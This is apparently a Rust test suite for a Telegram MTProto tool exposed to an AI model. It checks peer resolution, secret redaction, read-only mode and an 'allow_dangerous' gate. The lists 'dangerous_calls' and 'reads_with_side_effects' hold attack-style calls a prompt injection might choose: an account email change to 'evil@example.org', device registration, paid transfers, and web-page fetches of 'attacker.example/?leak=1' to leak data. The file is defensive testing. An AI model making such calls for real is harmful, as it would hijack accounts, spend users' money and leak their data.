//! `invoke_mtproto` over stdio against the loopback DC: any method by name, peers resolved,
//! dangerous methods and parameters guarded (the reviewed attacks never reach the DC), RPC
//! errors and unknown names explained, read-only mode, secrets redacted from answers.

use grammers_tl_types as tl;
use serde_json::{Value, json};

use testkit::fake_dc::{FaultAction, FaultRule};
use testkit::harness::{Harness, call, spawn};
use testkit::world::Peer;

fn history_params(peer: &str) -> Value {
    json!({
        "method_full_name": "messages.getHistory",
        "params_json": {"peer": peer, "offset_id": 0, "offset_date": 0, "add_offset": 0,
            "limit": 3, "max_id": 0, "min_id": 0, "hash": 0}
    })
}

#[tokio::test]
async fn get_history_resolves_the_peer_and_answers_json() {
    let h = Harness::signed_in().await;
    let client = h.client().await;
    let (err, v) = call(&client, "invoke_mtproto", history_params("@babbage")).await;
    assert!(!err, "{v}");
    assert_eq!(v["method"], "messages.getHistory");
    let result = &v["result"];
    assert!(
        result["_"].as_str().unwrap().starts_with("messages."),
        "{result}"
    );
    let messages = result["messages"].as_array().unwrap();
    assert_eq!(messages.len(), 3, "{result}");
    assert!(messages.iter().all(|m| m["_"] == "message"), "{result}");
    assert_eq!(messages[0]["peer_id"]["_"], "peerUser");
    assert_eq!(messages[0]["peer_id"]["user_id"], 1001);
    // Access hashes and phone numbers are left out unless asked for.
    let text = result.to_string();
    assert!(!text.contains("access_hash"), "{text}");
    assert!(!text.contains("\"phone\""), "{text}");
    let asked = h.dc.requests_of::<tl::functions::messages::GetHistory>();
    let last = asked.last().unwrap();
    assert_eq!(last.limit, 3);
    match &last.peer {
        tl::enums::InputPeer::User(u) => assert_eq!(u.user_id, 1001),
        other => panic!("resolved to {other:?}"),
    }

    // Same call, case-insensitive name, params as a JSON string, sensitive fields kept.
    let mut args = history_params("1001");
    args["method_full_name"] = json!("MESSAGES.GETHISTORY");
    args["params_json"] = json!(args["params_json"].to_string());
    args["include_sensitive"] = json!(true);
    let (err, v) = call(&client, "invoke_mtproto", args).await;
    assert!(!err, "{v}");
    assert!(v["result"].to_string().contains("access_hash"), "{v}");
    client.cancel().await.unwrap();
}

#[tokio::test]
async fn nested_objects_are_built_from_json() {
    let h = Harness::signed_in().await;
    let client = h.client().await;
    let (err, v) = call(
        &client,
        "invoke_mtproto",
        json!({
            "method_full_name": "messages.search",
            "params_json": {
                "peer": "@babbage", "q": "", "filter": {"_": "InputMessagesFilterEmpty"},
                "min_date": 0, "max_date": 0, "offset_id": 0, "add_offset": 0, "limit": 2,
                "max_id": 0, "min_id": 0, "hash": "0"
            }
        }),
    )
    .await;
    assert!(!err, "{v}");
    assert_eq!(v["method"], "messages.search");
    assert_eq!(v["result"]["messages"].as_array().unwrap().len(), 2, "{v}");
    let asked = h.dc.requests_of::<tl::functions::messages::Search>();
    assert!(matches!(
        asked.last().unwrap().filter,
        tl::enums::MessagesFilter::InputMessagesFilterEmpty
    ));

    // A missing field is named by its path.
    let (err, v) = call(
        &client,
        "invoke_mtproto",
        json!({"method_full_name": "messages.search",
            "params_json": {"peer": "me", "q": "", "filter": {"_": "inputMessagesFilterEmpty"}}}),
    )
    .await;
    assert!(err);
    assert_eq!(v["action"], "fix_arguments", "{v}");
    assert!(
        v["error"].as_str().unwrap().contains("min_date: missing"),
        "{v}"
    );
    client.cancel().await.unwrap();
}

#[tokio::test]
async fn deleting_needs_allow_dangerous() {
    let h = Harness::signed_in().await;
    let client = h.client().await;
    let newest = h.dc.world().history(Peer::User(1001)).next().unwrap().id;
    let args = json!({
        "method_full_name": "messages.deleteMessages",
        "params_json": {"revoke": true, "id": [newest]}
    });
    let (err, v) = call(&client, "invoke_mtproto", args.clone()).await;
    assert!(err, "{v}");
    assert_eq!(v["error_code"], "DANGEROUS_METHOD", "{v}");
    assert!(
        v["error"].as_str().unwrap().contains("allow_dangerous"),
        "{v}"
    );
    assert!(
        h.dc.requests_of::<tl::functions::messages::DeleteMessages>()
            .is_empty()
    );

    let mut allowed = args;
    allowed["allow_dangerous"] = json!(true);
    let (err, v) = call(&client, "invoke_mtproto", allowed).await;
    assert!(!err, "{v}");
    assert_eq!(v["result"]["_"], "messages.affectedMessages", "{v}");
    assert_eq!(v["result"]["pts_count"], 1, "{v}");
    let asked =
        h.dc.requests_of::<tl::functions::messages::DeleteMessages>();
    assert_eq!(asked.len(), 1);
    assert!(asked[0].revoke);
    assert_eq!(asked[0].id, vec![newest]);
    assert!(h.dc.world().message(Peer::User(1001), newest).is_none());
    client.cancel().await.unwrap();
}

#[tokio::test]
async fn rpc_errors_and_unknown_methods_are_explained() {
    let h = Harness::signed_in().await;
    let client = h.client().await;
    let (err, v) = call(
        &client,
        "invoke_mtproto",
        json!({"method_full_name": "contacts.resolveUsername",
            "params_json": {"username": "nobody_has_this_name"}}),
    )
    .await;
    assert!(err);
    assert_eq!(v["error_code"], "USERNAME_NOT_OCCUPIED", "{v}");
    assert_eq!(v["operation"], "invoke_mtproto");

    let (err, v) = call(
        &client,
        "invoke_mtproto",
        json!({"method_full_name": "messages.getHistroy", "params_json": {}}),
    )
    .await;
    assert!(err);
    assert_eq!(v["action"], "fix_arguments");
    let error = v["error"].as_str().unwrap();
    assert!(error.contains("did you mean"), "{error}");
    assert!(error.contains("messages.getHistory"), "{error}");

    // A generic wrapper is refused with a reason.
    let (err, v) = call(
        &client,
        "invoke_mtproto",
        json!({"method_full_name": "invokeWithLayer", "params_json": {"layer": 1}}),
    )
    .await;
    assert!(err);
    assert!(v["error"].as_str().unwrap().contains("inner method"), "{v}");
    client.cancel().await.unwrap();
}

#[tokio::test]
async fn read_only_mode_lists_the_tool_but_only_reads() {
    let h = Harness::signed_in().await;
    let mut cmd = h.command();
    cmd.env("READ_ONLY", "true");
    let client = spawn(cmd).await;
    let tools = client.list_all_tools().await.unwrap();
    let tool = tools
        .iter()
        .find(|t| t.name == "invoke_mtproto")
        .expect("listed in read-only mode");
    // In read-only mode it can only read, and says so.
    assert_eq!(tool.title.as_deref(), Some("Invoke MTProto method"));
    let a = tool.annotations.as_ref().unwrap();
    assert_eq!(a.read_only_hint, Some(true));
    // A reading tool says nothing of destruction (the protocol ignores it there).
    assert_eq!(a.destructive_hint, None);
    assert!(
        !tool
            .description
            .as_deref()
            .unwrap_or_default()
            .contains("allow_dangerous"),
        "{:?}",
        tool.description
    );

    let (err, v) = call(
        &client,
        "invoke_mtproto",
        json!({"method_full_name": "messages.sendMessage",
            "params_json": {"peer": "me", "message": "hi", "random_id": 1}}),
    )
    .await;
    assert!(err);
    assert_eq!(v["error_code"], "READ_ONLY_MODE", "{v}");
    // Even with allow_dangerous, deleting stays refused.
    let (err, v) = call(
        &client,
        "invoke_mtproto",
        json!({"method_full_name": "messages.deleteMessages", "allow_dangerous": true,
            "params_json": {"id": [1]}}),
    )
    .await;
    assert!(err);
    assert_eq!(v["error_code"], "READ_ONLY_MODE", "{v}");
    assert!(
        h.dc.requests_of::<tl::functions::messages::SendMessage>()
            .is_empty()
    );

    let (err, v) = call(&client, "invoke_mtproto", history_params("@babbage")).await;
    assert!(!err, "{v}");
    client.cancel().await.unwrap();
}

#[tokio::test]
async fn peers_in_answers_are_remembered_for_later_calls() {
    let h = Harness::signed_in().await;
    let client = h.client().await;
    let (err, v) = call(
        &client,
        "invoke_mtproto",
        json!({"method_full_name": "contacts.resolveUsername",
            "params_json": {"username": "babbage"}}),
    )
    .await;
    assert!(!err, "{v}");
    assert_eq!(v["result"]["_"], "contacts.resolvedPeer");
    assert_eq!(v["result"]["users"][0]["id"], 1001);
    assert!(v["result"]["users"][0].get("access_hash").is_none());
    // The id alone now resolves from the session, without scanning the dialogs.
    let (err, v) = call(&client, "invoke_mtproto", history_params("1001")).await;
    assert!(!err, "{v}");
    assert!(
        h.dc.requests_of::<tl::functions::messages::GetDialogs>()
            .is_empty()
    );
    client.cancel().await.unwrap();
}

#[tokio::test]
async fn peers_resolve_in_lists_and_nested_objects() {
    let h = Harness::signed_in().await;
    let client = h.client().await;
    let (err, v) = call(
        &client,
        "invoke_mtproto",
        json!({"method_full_name": "messages.getPeerDialogs",
            "params_json": {"peers": ["@babbage", {"_": "inputDialogPeer", "peer": "1001"}]}}),
    )
    .await;
    assert!(!err, "{v}");
    let asked =
        h.dc.requests_of::<tl::functions::messages::GetPeerDialogs>();
    let peers = &asked.last().unwrap().peers;
    assert_eq!(peers.len(), 2);
    for peer in peers {
        let tl::enums::InputDialogPeer::Peer(p) = peer else {
            panic!("{peer:?}")
        };
        assert!(
            matches!(&p.peer, tl::enums::InputPeer::User(u) if u.user_id == 1001),
            "{p:?}"
        );
    }
    client.cancel().await.unwrap();
}

#[tokio::test]
async fn flood_waits_say_how_long() {
    let h = Harness::signed_in().await;
    let client = h.client().await;
    h.dc.inject(FaultRule::on("messages.getHistory", FaultAction::FloodWait(600)).times(1));
    let (err, v) = call(&client, "invoke_mtproto", history_params("@babbage")).await;
    assert!(err, "{v}");
    assert_eq!(v["action"], "retry", "{v}");
    assert_eq!(v["retry_after_seconds"], 600, "{v}");
    assert_eq!(v["error_code"], "FLOOD_WAIT_600", "{v}");
    client.cancel().await.unwrap();
}

/// Calls that once went through without `allow_dangerous` (a prompt injection chooses the
/// arguments), each with what its refusal must name, and parameters complete enough to be
/// sent once allowed.
fn dangerous_calls() -> Vec<(&'static str, Value, &'static str)> {
    let self_peer = json!({"_": "inputPeerSelf"});
    let self_user = json!({"_": "inputUserSelf"});
    let no_channel = json!({"_": "inputChannelEmpty"});
    vec![
        (
            "account.sendVerifyEmailCode",
            json!({"purpose": {"_": "emailVerifyPurposeLoginChange"}, "email": "evil@example.org"}),
            "classed dangerous",
        ),
        (
            "account.verifyEmail",
            json!({"purpose": {"_": "emailVerifyPurposeLoginChange"},
                "verification": {"_": "emailVerificationCode", "code": "12345"}}),
            "classed dangerous",
        ),
        (
            "account.registerDevice",
            json!({"token_type": 2, "token": "PUSH-TOKEN-SECRET", "app_sandbox": false,
                "secret": "", "other_uids": []}),
            "classed dangerous",
        ),
        (
            "account.updateConnectedBot",
            json!({"bot": self_user, "recipients": {"existing_chats": true}}),
            "classed dangerous",
        ),
        (
            "messages.acceptUrlAuth",
            json!({"share_phone_number": true, "url": "https://example.org/login"}),
            "share_phone_number",
        ),
        (
            "channels.editAdmin",
            json!({"channel": no_channel, "user_id": self_user,
                "admin_rights": {"change_info": true}, "rank": "boss"}),
            "classed dangerous",
        ),
        (
            "messages.sendPaidReaction",
            json!({"peer": self_peer, "msg_id": 1, "count": 100, "random_id": 7}),
            "classed dangerous",
        ),
        (
            "messages.sendMessage",
            json!({"peer": self_peer, "message": "hi", "random_id": 8, "allow_paid_stars": 500}),
            "allow_paid_stars",
        ),
        (
            "payments.transferStarGift",
            json!({"stargift": {"_": "inputSavedStarGiftUser", "msg_id": 1}, "to_id": self_peer}),
            "classed dangerous",
        ),
        (
            "payments.convertStarGift",
            json!({"stargift": {"_": "inputSavedStarGiftUser", "msg_id": 1}}),
            "classed dangerous",
        ),
        (
            "payments.changeStarsSubscription",
            json!({"peer": self_peer, "subscription_id": "sub", "canceled": false}),
            "classed dangerous",
        ),
        (
            "messages.discardEncryption",
            json!({"delete_history": true, "chat_id": 1}),
            "classed dangerous",
        ),
        (
            "channels.convertToGigagroup",
            json!({"channel": no_channel}),
            "classed dangerous",
        ),
        (
            "messages.migrateChat",
            json!({"chat_id": 1}),
            "classed dangerous",
        ),
        (
            "account.updateUsername",
            json!({"username": ""}),
            "classed dangerous",
        ),
        (
            "channels.updateUsername",
            json!({"channel": no_channel, "username": ""}),
            "classed dangerous",
        ),
        (
            "account.setAccountTTL",
            json!({"ttl": {"days": 30}}),
            "classed dangerous",
        ),
    ]
}

#[tokio::test]
async fn reviewed_attacks_need_allow_dangerous_and_are_never_sent_without() {
    let h = Harness::signed_in().await;
    let client = h.client().await;
    let calls = dangerous_calls();
    for (method, params, reason) in &calls {
        let args = json!({"method_full_name": method, "params_json": params, "resolve": false});
        let (err, v) = call(&client, "invoke_mtproto", args).await;
        assert!(err, "{method}: {v}");
        assert_eq!(v["error_code"], "DANGEROUS_METHOD", "{method}: {v}");
        let error = v["error"].as_str().unwrap();
        assert!(error.contains(reason), "{method}: {error}");
        assert!(error.contains("allow_dangerous"), "{method}: {error}");
        // The refusal says why without echoing what was passed.
        assert!(!error.contains("PUSH-TOKEN-SECRET"), "{error}");
        assert!(!error.contains("evil@example.org"), "{error}");
    }
    let asked = h.dc.request_names();
    for (method, _, _) in &calls {
        assert!(
            !asked.iter().any(|n| n == method),
            "{method} reached the DC"
        );
    }

    // Asked for explicitly, each is sent (the DC may answer an error for what it lacks).
    for (method, params, _) in &calls {
        let args = json!({"method_full_name": method, "params_json": params, "resolve": false,
            "allow_dangerous": true});
        let (_, v) = call(&client, "invoke_mtproto", args).await;
        assert_ne!(v["error_code"], "DANGEROUS_METHOD", "{method}: {v}");
        assert!(
            h.dc.request_names().iter().any(|n| n == method),
            "{method} was not sent: {v}"
        );
    }
    let paid = h.dc.requests_of::<tl::functions::messages::SendMessage>();
    assert_eq!(paid.last().unwrap().allow_paid_stars, Some(500));
    client.cancel().await.unwrap();
}

/// "Reads" with a side effect: a Star payment, revoking a stream key, Telegram fetching a
/// URL, a query to a bot.
fn reads_with_side_effects() -> Vec<(&'static str, Value)> {
    vec![
        (
            "channels.searchPosts",
            json!({"query": "x", "offset_rate": 0, "offset_peer": {"_": "inputPeerEmpty"},
                "offset_id": 0, "limit": 10, "allow_paid_stars": 10}),
        ),
        (
            "phone.getGroupCallStreamRtmpUrl",
            json!({"peer": {"_": "inputPeerSelf"}, "revoke": true}),
        ),
        (
            "messages.getWebPagePreview",
            json!({"message": "https://attacker.example/?leak=1"}),
        ),
        (
            "messages.getWebPage",
            json!({"url": "https://attacker.example/?leak=1", "hash": 0}),
        ),
        (
            "messages.getInlineBotResults",
            json!({"bot": {"_": "inputUserSelf"}, "peer": {"_": "inputPeerSelf"},
                "query": "leak", "offset": ""}),
        ),
    ]
}

#[tokio::test]
async fn read_only_mode_refuses_reads_with_side_effects_and_keeps_pure_reads() {
    let h = Harness::signed_in().await;
    let mut cmd = h.command();
    cmd.env("READ_ONLY", "true");
    let client = spawn(cmd).await;
    for (method, params) in reads_with_side_effects() {
        for allow_dangerous in [false, true] {
            let args = json!({"method_full_name": method, "params_json": params,
                "resolve": false, "allow_dangerous": allow_dangerous});
            let (err, v) = call(&client, "invoke_mtproto", args).await;
            assert!(err, "{method}: {v}");
            assert_eq!(v["error_code"], "READ_ONLY_MODE", "{method}: {v}");
            let error = v["error"].as_str().unwrap();
            assert!(
                error.contains("classed write")
                    || error.contains("allow_paid_stars")
                    || error.contains("revoke"),
                "{method}: {error}"
            );
        }
    }
    let asked = h.dc.request_names();
    for (method, _) in reads_with_side_effects() {
        assert!(
            !asked.iter().any(|n| n == method),
            "{method} reached the DC"
        );
    }

    // The same stream-key read without revoking is a pure read, and is sent.
    let (err, v) = call(
        &client,
        "invoke_mtproto",
        json!({"method_full_name": "phone.getGroupCallStreamRtmpUrl",
            "params_json": {"peer": "me", "revoke": false}}),
    )
    .await;
    assert!(!err, "{v}");
    let asked =
        h.dc.requests_of::<tl::functions::phone::GetGroupCallStreamRtmpUrl>();
    assert_eq!(asked.len(), 1);
    assert!(!asked[0].revoke);
    let (err, v) = call(&client, "invoke_mtproto", history_params("@babbage")).await;
    assert!(!err, "{v}");
    client.cancel().await.unwrap();
}

#[tokio::test]
async fn side_effects_outside_read_only_mode_follow_their_class_and_parameters() {
    let h = Harness::signed_in().await;
    let client = h.client().await;
    for (method, params) in reads_with_side_effects() {
        let args = json!({"method_full_name": method, "params_json": params, "resolve": false});
        let (_, v) = call(&client, "invoke_mtproto", args.clone()).await;
        let by_parameter =
            method == "channels.searchPosts" || method == "phone.getGroupCallStreamRtmpUrl";
        if by_parameter {
            // A read made dangerous by its parameters: refused, then sent when allowed.
            assert_eq!(v["error_code"], "DANGEROUS_METHOD", "{method}: {v}");
            let error = v["error"].as_str().unwrap();
            assert!(error.contains("classed read, but its parameter"), "{error}");
            assert!(
                !h.dc.request_names().iter().any(|n| n == method),
                "{method}"
            );
            let mut allowed = args;
            allowed["allow_dangerous"] = json!(true);
            let (_, v) = call(&client, "invoke_mtproto", allowed).await;
            assert_ne!(v["error_code"], "DANGEROUS_METHOD", "{method}: {v}");
        } else {
            // Writes: sent without allow_dangerous.
            assert_ne!(v["error_code"], "DANGEROUS_METHOD", "{method}: {v}");
        }
        assert!(
            h.dc.request_names().iter().any(|n| n == method),
            "{method} was not sent: {v}"
        );
    }
    let asked =
        h.dc.requests_of::<tl::functions::phone::GetGroupCallStreamRtmpUrl>();
    assert!(asked.last().unwrap().revoke);
    client.cancel().await.unwrap();
}

#[tokio::test]
async fn secrets_in_answers_are_redacted_unless_include_sensitive() {
    use testkit::fake_dc::methods::users::{RTMP_KEY, SESSION_HASH};
    let h = Harness::signed_in().await;
    let client = h.client().await;
    let sessions = json!({"method_full_name": "account.getAuthorizations"});
    let (err, v) = call(&client, "invoke_mtproto", sessions.clone()).await;
    assert!(!err, "{v}");
    let session = &v["result"]["authorizations"][0];
    assert_eq!(session["_"], "authorization", "{v}");
    assert_eq!(session["device_model"], "fake-dc", "{v}");
    assert!(session.get("hash").is_none(), "{v}");
    assert!(!v.to_string().contains(&SESSION_HASH.to_string()), "{v}");
    let mut sensitive = sessions;
    sensitive["include_sensitive"] = json!(true);
    let (err, v) = call(&client, "invoke_mtproto", sensitive).await;
    assert!(!err, "{v}");
    assert_eq!(
        v["result"]["authorizations"][0]["hash"].to_string(),
        SESSION_HASH.to_string(),
        "{v}"
    );

    let rtmp = json!({"method_full_name": "phone.getGroupCallStreamRtmpUrl",
        "params_json": {"peer": {"_": "inputPeerSelf"}, "revoke": false}});
    let (err, v) = call(&client, "invoke_mtproto", rtmp.clone()).await;
    assert!(!err, "{v}");
    assert_eq!(v["result"]["url"], "rtmps://dc1-1.rtmp.t.me/s/", "{v}");
    assert!(v["result"].get("key").is_none(), "{v}");
    assert!(!v.to_string().contains(RTMP_KEY), "{v}");
    let mut sensitive = rtmp;
    sensitive["include_sensitive"] = json!(true);
    let (err, v) = call(&client, "invoke_mtproto", sensitive).await;
    assert!(!err, "{v}");
    assert_eq!(v["result"]["key"], RTMP_KEY, "{v}");
    client.cancel().await.unwrap();
}
